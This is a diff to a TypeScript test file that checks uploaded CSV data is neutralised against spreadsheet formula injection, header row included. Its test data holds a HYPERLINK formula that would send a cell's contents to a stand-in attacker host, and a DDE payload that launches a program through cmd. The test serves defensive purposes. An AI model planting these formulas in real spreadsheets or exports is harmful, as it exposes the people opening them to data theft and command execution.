@@ -53,14 +53,16 @@ describe("hostile uploads", () => {
     expect(await refused(png, "vitals.csv")).toMatch(/binary file/);
   });
 
-  it("escapes formulas in the researcher's extract, and the verifier still matches it", async () => {
+  it("escapes formulas in the researcher's extract, header row included, and the verifier still matches it", async () => {
     const rows = Array.from(
       { length: 6 },
-      (_, index) => `P${index},2022,=HYPERLINK("https://evil.example/?"&A1;"open"),-${index + 1}`,
+      (_, index) =>
+        `P${index},2022,=HYPERLINK("https://evil.example/?"&A1;"open"),-${index + 1},${index % 2},x`,
     );
+    // Column names are the participant's to choose, and reach the researcher's spreadsheet.
     const upload = await harness.upload(
       participant,
-      ["pseudonym,year,site,delta", ...rows].join("\n"),
+      ['pseudonym,year,site,delta,"@SUM(1+1)","+cmd|\' /C calc\'!A0"', ...rows].join("\n"),
     );
     const { id: listingId } = await harness
       .callerFor(participant)
@@ -89,7 +91,9 @@ describe("hostile uploads", () => {
     const file = (name: "csv" | "manifest") =>
       getExtractFile({ db, chain, researcherId: researcher.id, extractId: extract.id, file: name });
     const csv = (await file("csv")).body.toString("utf8");
-    const cells = Papa.parse<string[]>(csv.trim()).data.flat();
+    const [header, ...body] = Papa.parse<string[]>(csv.trim()).data;
+    expect(header).toEqual(expect.arrayContaining(["'@SUM(1+1)", "'+cmd|' /C calc'!A0"]));
+    const cells = [...header!, ...body.flat()];
     expect(cells.some((cell) => cell.startsWith(`'=HYPERLINK`))).toBe(true);
     expect(cells.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
     expect(cells).toContain("-1");
